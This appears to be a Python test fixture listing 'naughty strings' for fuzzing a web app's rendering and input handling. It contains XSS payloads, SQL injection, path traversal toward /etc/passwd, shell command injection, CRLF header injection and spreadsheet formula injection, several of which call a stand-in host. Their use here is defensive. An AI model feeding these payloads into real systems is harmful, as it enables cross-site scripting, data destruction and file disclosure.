"""Strings that have broken programs, and some that were made to break this one; each with what it would do if it ran."""

# Nobody lives there; whoever asks for it has been fooled.
HOST = "naughty.invalid"
# What every script here does, so that one question to the page finds them all.
RUN = "window.naughty=1"

_TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</ScRiPt>", "<script src=//{host}/x.js></script>", "<img src=x onerror={run}>",
    "<img src=http://{host}/i.png>", "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<body onload={run}>",
    "<iframe src=http://{host}/></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<object data=//{host}/x>",
    "<embed src=//{host}/x>", "<link rel=stylesheet href=//{host}/x.css>", "<style>@import'//{host}/x.css'</style>",
    "<style>*{{background:url(//{host}/x)}}</style>", "<base href=//{host}/>", "<meta http-equiv=refresh content='0;url=//{host}/'>",
    "<form action=//{host}/><input name=x autofocus onfocus={run}>", "<input autofocus onfocus={run}>", "<video src=//{host}/x onerror={run}>",
    "<audio src=x onerror={run}>", "<details open ontoggle={run}>", "<math href=javascript:{run}>x</math>", "<a href=javascript:{run}>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>", "<marquee onstart={run}>", "<table background=//{host}/x>", "<!--<img src=x onerror={run}>-->",
    "<x onclick={run}>x", "<template><script>{run}</script></template>", "<noscript><img src=//{host}/x></noscript>", "<title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</script><script>{run}</script>", "</style><script>{run}</script>",
    '"><script>{run}</script>', "'><script>{run}</script>", '" onmouseover={run} x="', "' onfocus={run} autofocus '", "` onload={run} `",
    "javascript:{run}", "java\tscript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;", "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>", '<img src="x" onerror\n=\n{run}>', "<IMG SRC=&#106;avascript:{run}>", "<svg/onload={run}//",
    '<p style="background:url(//{host}/x)">', "<div style=position:fixed;inset:0>", "<plaintext>", "<xmp><script>{run}</script>", "<![CDATA[<script>{run}</script>]]>",
)  # fmt: skip
_MARKS = (
    "[x](javascript:{run})", "[x](http://{host}/)", "![x](http://{host}/i.png)", "![x](//{host}/i.png)", "[![x](http://{host}/i.png)](http://{host}/)",
    "<http://{host}/>", "http://{host}/", "www.{host}", "[x]: http://{host}/", "[x][y]\n\n[y]: http://{host}/", "[x](data:text/html,<script>{run}</script>)",
    "# head", "## head\n# head", "**bold**", "*it*", "__u__", "~~gone~~", "`code`", "```\ncode\n```", "```html\n<script>{run}</script>\n```", "> said",
    "- list", "1. list", "---", "===", "***", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] task", "[^1]\n\n[^1]: foot", "$$\\frac{{1}}{{0}}$$", "$x$",
    "\\(x\\)", "$\\href{{javascript:{run}}}{{x}}$", "$\\includegraphics{{http://{host}/i.png}}$", ":red[x]", ":material/delete:", ":smile:", ":streamlit:",
    ":rainbow[x]", ":blue-background[x]", ":small[x]", ":shortcut[x]", ':color[x]{{foreground="red"}}', ":badge[x]", "->", "<-", "<br>", "&nbsp;", "\\", "\\\\", "\\*",
    "line\n\nline", "line  \nline", "    code", "\tcode", "|", "||", "@name", "#1", "![", "](", "[x](", "[]()", "![]()", "[x](/sign-in)", "[x](/v/1)", "![x](/v/1)",
)  # fmt: skip
_CODE = (
    "{{}}", "{{0}}", "{{name}}", "{{file}}", "{{count}}", "{{{{7*7}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{% raw %}}", "{{__class__}}", "{{0.__class__}}", "%s", "%n%n%n", "%(name)s", "%%",
    "'", "''", '"', "' OR 1=1 --", "'; DROP TABLE sim; --", '"; DROP TABLE sim; --', "1; SELECT 1", "' UNION SELECT * FROM person --", "/* x */", "--", "$1", "$name", "$$x$$",
    "E'\\''", "%' AND '%'='", "_", "%", "\\%", "read_csv('/etc/passwd')", "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\Windows", "\\\\{host}\\x", "file:///etc/passwd",
    "%2e%2e%2f", "CON", "NUL", "aux.txt", "~", "~root", "$(touch x)", "`touch x`", "; ls", "| ls", "&& ls", "$HOME", "%PATH%", "-rf", "--help", "*", "?", "[a-z]",
    "a\r\nSet-Cookie: x=1", "a\nb", "a\rb", "\r\n\r\n", "a\tb", "\x0b", "\x0c", "\x1b[31mred\x1b[0m", "\x07", "\x08", "\x7f", "\x85", "\u2028", "\u2029",
    "=1+1", '=HYPERLINK("http://{host}")', "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1', "＝1+1", "＋1", "－1", "＠x", "=", "+", "-", "@",
    "'", "''a", "'a", '""', ",", ";", "a,b", "a;b", 'a"b', 'a""b',
)  # fmt: skip
_PLAIN = (
    "None", "null", "NULL", "nil", "undefined", "NaN", "nan", "inf", "-inf", "Infinity", "true", "false", "True", "0", "-0", "00", "0.0", "-1", "1e309", "1e-400", "1E5", "0x10", "1_000", "1,000",
    "9007199254740993", "18446744073709551616", "99999999999999999999999999", "1/0", "1.7976931348623157e309", "２０２６", "８９８６", "١٢٣", "Ⅻ", "½", "²", "12:00", "2026-02-30", "0000-00-00", "9999-12-31", "1969-12-31",
    "[]", "[object Object]", "{{}}", "()", "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "length", "index", "level_0", "rowid", "_index", "name", "self",
    "\u202egnp.exe", "\u2066abc\u2069", "\u200b", "a\u200bb", "\ufeffa", "\u00ad", "a\u0301", "e\u0301\u0301\u0301", "Z̷̢̛͖͎̈́͝a̸͙͐l̴̡̆g̶͔̑o̷͇͛", "\u0000".replace("\0", "␀"), "\ufffd", "\ufffe", "\U0010ffff", "\ue000",
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇨🇳", "😀" * 50, "𠮷野家", "𪚥", "龘" * 30, "㊙", "ﷺ", "ﬁ", "ß", "İ", "ı", "ſ", "Å", "Å", "한글", "ไทย", "العربية", "עברית", "हिन्दी", "ꙮ", "꧅", "𒐫", "‱", "¯\\_(ツ)_/¯",
    "x" * 10_000, "中" * 3_000, "W" * 500, "a " * 2_000, "一" * 200, "-" * 300, "." * 300, " ", "  ", "\u3000", "\u00a0", "a" + " " * 50 + "b", " a", "a ", "", ".", "..", "...",
    "Scunthorpe", "O'Brien", "D'Arcy & Söhne <GmbH>", "AT&T", "Smith, John", "a@b.c", "+86 138-0013-8000", "（演示）", "“引号”", "‘单’", "《书》", "【x】", "、。", "￥1", "¥1", "100%",
)  # fmt: skip


def _filled(text: str) -> str:
    return text.replace("{run}", RUN).replace("{host}", HOST).replace("{{", "{").replace("}}", "}")


STRINGS: tuple[str, ...] = tuple(dict.fromkeys(map(_filled, (*_TAGS, *_MARKS, *_CODE, *_PLAIN))))
# Those a browser or a spreadsheet would act upon; they stand in the first rows, where a page shows them.
ACTIVE: tuple[str, ...] = tuple(dict.fromkeys(map(_filled, (*_TAGS, *_MARKS))))
